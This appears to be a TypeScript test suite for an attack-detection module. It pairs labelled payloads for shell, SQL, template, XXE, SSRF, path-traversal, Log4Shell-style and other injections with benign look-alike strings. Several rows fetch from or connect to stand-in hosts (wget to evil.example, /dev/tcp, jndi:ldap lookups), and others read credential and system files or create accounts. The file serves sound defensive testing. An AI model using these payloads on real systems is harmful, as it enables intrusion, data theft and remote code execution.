// Goal: each detector tells its attack from text that looks like it.
// Method: rows of both by detector, each with the reason; the examples are our own. Then a check that every detector has rows.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { detect, detectors, type Place } from './index.ts'

type Row = readonly [why: string, text: string, place?: Place]

const attacks: Readonly<Record<string, readonly Row[]>> = {
  SqlInjection: [['a condition that always holds', "a' or 8=8--"]],
  CrossSiteScripting: [
    ['a script', '<script>ping()</script>'],
    ['a function that a method calls', '[9].find(alert)'],
  ],
  ShellCommand: [
    ['a command after a semicolon', '10.0.0.1; wget http://evil.example/x'],
    ['a short command after a pipe', '10.0.0.1|id'],
    ['a command in a substitution', 'a$(uname -a)b'],
    ['a command in backticks', 'a`id`b'],
    ['a command as the whole text', 'cat /srv/secret.txt'],
    ['options give it away', 'ls -al'],
    ['separators of the shell as spaces', ';cat${IFS}/srv/secret'],
    ['quotes within the name', ";w'h'oami"],
    ['a backslash within the name', ';who\\ami'],
    ['an empty expansion within the name', ';wh$@oami'],
    ['wildcards in the program path', '/???/c?t /srv/x'],
    ['a brace list', '{wget,evil.example}'],
    ['a new line', 'x\nwget http://evil.example'],
    ['a network device', 'exec 5<>/dev/tcp/198.51.100.7/99'],
    ['a function that the environment exports', '() { :;}; echo x'],
    ['Windows: a folder listed', '& dir c:\\'],
    ['Windows: an account made', '| net user eve pw /add'],
    ['Windows: a variable', 'type %SystemRoot%\\x'],
    ['PowerShell', ';Invoke-WebRequest evil.example'],
    ['a fork bomb', 'b(){ b|b& };b'],
    ['a word expanded to nothing within the name', ';who$()ami'],
    ['a number as argument in a substitution', '$(sleep 9)'],
    ['a command alone in the line after a host', '10.0.0.9\nid'],
    ['options that are letters', '; ps aux'],
    ['a sum that a shell would show', 'x$((6*8))'],
    ['a cell that starts a program', "=cmd|' /C calc'!A1"],
    ['an option that runs another program', '-oProxyCommand=touch x'],
    ['Python runs it', "__import__('os').system('id')"],
  ],
  PathTraversal: [
    ['climbing to a system file', '../../../etc/passwd'],
    ['backslashes', '..\\..\\..\\windows\\win.ini'],
    ['encoded once more', '..%2f..%2f..%2fsrv'],
    ['overlong UTF-8', '..%c0%af..%c0%af..%c0%afsrv'],
    ['doubled against a filter', '....//....//....//srv'],
    ['parameters that Tomcat drops', '/..;/..;/..;/manager'],
    ['an absolute path', '/etc/shadow'],
    ['a process', '/proc/self/environ'],
    ['a drive', 'c:/windows/system32/drivers/etc/hosts'],
    ['a stream of PHP', 'php://filter/convert.base64-encode/resource=index'],
    ['a file URL', 'file:///srv/secret'],
    ['a NUL before the extension', '../../secret\0.png'],
  ],
  HiddenFile: [
    ['a repository', '/.git/config', 'path'],
    ['settings', '/app/.env', 'path'],
    ['a backup', '/index.php.bak', 'path'],
    ['climbing in a URL', '/static/../admin', 'path'],
  ],
  ExecutableFile: [
    ['PHP', 'photo.php', 'filename'],
    ['with dots after it', 'photo.php...', 'filename'],
    ['before another extension', 'photo.phtml.jpg', 'filename'],
    ['a stream of NTFS', 'photo.aspx::$DATA', 'filename'],
    ['settings of the server', '.htaccess', 'filename'],
  ],
  ServerRequest: [
    ['the own machine', 'http://127.0.0.1:8500/v1'],
    ['by name', 'http://localhost/admin'],
    ['one number', 'http://2130706433/'],
    ['hexadecimal', 'http://0x7f.1/'],
    ['octal', 'http://0177.0.0.1/'],
    ['fewer parts', 'http://127.1/'],
    ['a private network', 'http://10.3.2.1/'],
    ['the metadata service', 'http://169.254.169.254/latest/meta-data/'],
    ['IPv6', 'http://[::1]/'],
    ['an IPv4 address in IPv6', 'http://[::ffff:7f00:1]/'],
    ['circled digits', 'http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/'],
    ['a name that resolves inside', 'http://10.0.0.1.nip.io/'],
    ['a store behind the server', 'http://cache:6379/'],
    ['with the name of its argument', 'url=http://10.1.2.3/'],
    ['credentials that look like the host', 'http://shop.example@evil.example/'],
    ['another protocol', 'gopher://shop.example:6379/_x'],
  ],
  Template: [
    ['arithmetic', '{{6*8}}'],
    ['arithmetic in another language', '${6*8}'],
    ['Ruby', '<%= 6*8 %>'],
    ['reaching classes', "{{''.__class__.__mro__}}"],
    ['reaching globals', "{{cycler.__init__.__globals__.os.popen('id').read()}}"],
    ['FreeMarker', '<#assign q="freemarker.template.utility.Execute"?new()>'],
    ['Velocity', '#set($q=$x.getClass())'],
    ['SpEL', '${T(java.lang.Runtime).getRuntime()}'],
    ['Thymeleaf', '*{6*8}'],
    ['Smarty', "{system('id')}"],
    ['a statement of Jinja', '{% for q in x %}'],
    ['the object of its settings', '{{ config }}'],
    ['a filter that runs', "{{ 'id' | system }}"],
    ['a key hidden in two', "{{ x['__gl'+'obals__'] }}"],
    ['a constructor, in a language without calls', '{{ lookup . "constructor" }}'],
    ['a key of the settings', '{{ settings.SECRET_KEY }}'],
    ['backticks of Ruby', '<%= `id` %>'],
    ['an object of Smarty', '{$smarty.version}'],
    ['Perl', "@{[system 'id']}"],
  ],
  XmlEntities: [
    ['an external entity', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///srv/x">]>'],
    ['a parameter entity', '<!DOCTYPE a [<!ENTITY % b SYSTEM "http://evil.example">%b;]>'],
    ['an entity of entities', '<!DOCTYPE a [<!ENTITY b "&c;&c;">]>'],
    ['an external type', '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd">'],
    ['UTF-7', '+ADwAIQ-ENTITY a SYSTEM +ACI-x+ACI-+AD4-'],
    ['a style sheet from outside', '<xsl:include href="http://evil.example/x.xsl"/>'],
    ['XInclude', '<a xmlns:xi="http://www.w3.org/2001/XInclude"/>'],
  ],
  NoSql: [
    ['an operator as an argument', 'user[$ne]', 'name'],
    ['an operator as a member', '$gt', 'name'],
    ['an operator in an object', '{"$ne": 1}'],
    ['without quotes', "{$regex: '^a'}"],
    ['a list of conditions', "', $or: [ {}, {'a':'a"],
    ['a member added', "' }, $comment: 'x"],
    ['a condition that always holds', "'||true//"],
    ['a condition on the document', 'this.pw.length > 0'],
    ['code in a condition', "' || this.pw.length==8 || 'a'=='b"],
    ['a statement of the shell', 'db.users.drop()'],
  ],
  Ldap: [
    ['a filter closed and another opened', '*)(uid=*))(|(uid=*'],
    ['a condition added', 'eve)(|(pw=*)'],
    ['parentheses closed and opened again', 'eve*)((|pw=*)'],
    ['a filter that all meet', '(objectClass=*)'],
    ['a filter ended', 'eve)\0'],
    ['a filter of one\u2019s own', '(&(cn=a)(x=b))'],
  ],
  Php: [
    ['a tag', '<?php echo 1;'],
    ['a short tag', '<?= 1 ?>'],
    ['a superglobal', "$_GET['c']"],
    ['a call that tells', 'phpinfo()'],
    ['a call by a quoted name', "'system'('id')"],
    ['a call that runs', "exec('id')"],
    ['a call through a variable', '$f(1)'],
    ['a serialized object', 'O:3:"Foo":1:{s:1:"a";i:1;}'],
    ['a setting', 'allow_url_include=1'],
  ],
  Java: [
    ['a class', 'java.lang.Runtime'],
    ['a stream of objects in base64', 'rO0ABXNyABFqYXZh'],
    ['a call of the runtime', 'x.getRuntime().exec("id")'],
    ['OGNL', '(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)'],
    ['the class loader by parameters', 'class.module.classLoader.resources', 'name'],
  ],
  Node: [
    ['the prototype as a member', '__proto__', 'name'],
    ['the prototype in an argument', '__proto__[admin]', 'name'],
    ['through the constructor', 'constructor.prototype.admin', 'name'],
    ['the main module', "process.mainModule.require('fs')"],
    ['a module that runs commands', "require('child_process').exec('id')"],
    ['the constructor of functions', "a.constructor.constructor('return 1')()"],
    ['a loop without an end', 'while(true);'],
  ],
  LogLookup: [
    ['a lookup that fetches', '${jndi:ldap://evil.example/a}'],
    ['its name in lower-case lookups', '${${lower:J}ndi:ldap://evil.example/a}'],
    ['its letters as defaults', '${${::-j}${::-n}${::-d}${::-i}:dns://evil.example}'],
    ['cut off', '${jndi:rmi://evil.example'],
  ],
  HeaderLines: [
    ['a cookie is set', 'en\r\nSet-Cookie: a=b'],
    ['a response of its own', 'x\r\n\r\nHTTP/1.1 200 OK'],
    ['another recipient', 'jo@example.org\nBcc: eve@evil.example'],
  ],
  ServerInclude: [
    ['a command', '<!--#exec cmd="id" -->'],
    ['a variable', '<!-- #echo var="x" -->'],
  ],
}

const benign: readonly Row[] = [
  ['prose after a semicolon', 'We met; find us at the station; time is short'],
  ['names and an ampersand', 'Simon & Cat Head of Sales'],
  ['commands that are words', 'cat food, curl up, echo chamber, sort of'],
  ['commands quoted in prose', 'First run `npm install`, then see `id` in the table'],
  ['a fence of code', '```bash\nnpm install left-pad\n```'],
  ['a table of words', '| Service | Time | Of |'],
  ['versions after a semicolon', 'common to GCC 3.2 and 3.3; GCC 3.4 is newer'],
  ['an address that begins a line', 'report it in the list\nat https://example.org/issues'],
  ['a table', '| id | cat |\n| -- | --- |\n| 1 | ls |'],
  ['HTML entities cut at the ampersand', 'amp;id', 'name'],
  ['a URL with parameters', 'https://a.example/x?cat=1&id=2&sort=up&date=3'],
  ['a link between sources', "import { a } from '../../src/a.ts'"],
  ['a relative page', './guide/intro.md'],
  ['a path of the site', '/images/2024/cat.png', 'path'],
  ['a well-known folder', '/.well-known/security.txt', 'path'],
  ['dots in a name', '/v1.2.3/file..name.html', 'path'],
  ['an ellipsis', 'wait.../and see'],
  ['an upload', 'holiday.2024.jpg', 'filename'],
  ['a name with a program inside', 'php-course.pdf', 'filename'],
  ['a page elsewhere', 'https://example.org/metadata'],
  ['a public address', 'http://93.184.216.34/'],
  ['a time', 'at 10:30 or 11:45'],
  ['a ratio and a scheme-like word', 'note: file: the letter'],
  ['a placeholder', 'Dear {{name}}, your code is ${code}'],
  ['a member of a placeholder', 'Hello {{ user.firstName }}'],
  ['CSS', 'a { color: red } .b { margin: 2*3px }'],
  ['a template literal', 'const s = `${a}/${b}`'],
  ['a heading and an anchor', '## Title {#title}'],
  ['XML', '<?xml version="1.0" encoding="UTF-8"?><a b="c">d</a>'],
  ['a doctype of HTML', '<!DOCTYPE html>'],
  [
    'an old doctype',
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
  ],
  ['prices', 'from $5 to $ne plus $10'],
  ['a shell variable', '$HOME/bin and $PATH'],
  ['a formula', 'f(x)=(a)(b)+c'],
  ['a smile', ':) and ;) and (: and :-('],
  ['a list in parentheses', '(a) one (b) two (c) three'],
  ['a phone number', '+36 (1) 234-5678'],
  ['prose on PHP', 'PHP, phpinfo and eval are words; $5 is money'],
  ['prose on Java', 'Java is a language; java is an island'],
  ['a host name', 'java.example.org'],
  ['prose on prototypes', 'Its constructor has a prototype'],
  ['a loop in prose', 'while we wait (for you)'],
  ['a sample of code', 'console.log(diff(left, right));'],
  ['new lines', 'Dear Jo,\n\nThanks: it works.\n\nTo be continued'],
  ['a list of definitions', 'Name: x\nColour: red\nSize: 4'],
  ['a comment', '<!-- # a heading -->'],
  ['a UUID', '0b7f6a3c-5e1d-4f7a-9c2b-8d3e4f5a6b7c'],
  ['a token', 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl'],
  ['base64 of prose', 'VGhlIGNhdCBzYXQgb24gdGhlIG1hdCBhbmQgc2xlcHQu'],
  ['an ARN', 'arn:aws:iam::123456789012:role/a+b=c,d.e@f'],
  ['a policy', '{"Effect":"Allow","Action":["s3:*"],"Resource":"*"}'],
  ['a date', '2026-06-10T08:20:30.123Z'],
  ['a user agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0', 'header'],
  ['what a browser accepts', 'text/html,application/xhtml+xml;q=0.9,*/*;q=0.8', 'header'],
  ['a cookie of consent', 'groups=C0001:1,C0002:0&version=1.0', 'cookie'],
]

for (const [name, rows] of Object.entries(attacks)) {
  for (const [why, text, place] of rows) {
    test(`${name}: ${why}`, () => {
      const found = detect(text, place ?? 'value')
      assert.ok(found.includes(name), `${text} gave ${found.join() || 'nothing'}`)
    })
  }
}
for (const [why, text, place] of benign) {
  test(`benign: ${why}`, () => assert.deepEqual(detect(text, place ?? 'value'), [], text))
}

test('base64 hides nothing, whether in a value or in the last segment of a path', () => {
  const hidden = Buffer.from('<script>ping()</script>').toString('base64url')
  assert.ok(detect(hidden, 'value').includes('CrossSiteScripting'))
  assert.ok(detect(`/a/${hidden}`, 'path').includes('CrossSiteScripting'))
})

test('every detector has rows, and every row ran', () => {
  assert.deepEqual(Object.keys(attacks).sort(), detectors.map(({ name }) => name).sort())
  const rows = Object.values(attacks).flat().length
  assert.deepEqual([rows, benign.length], [140, 55])
})
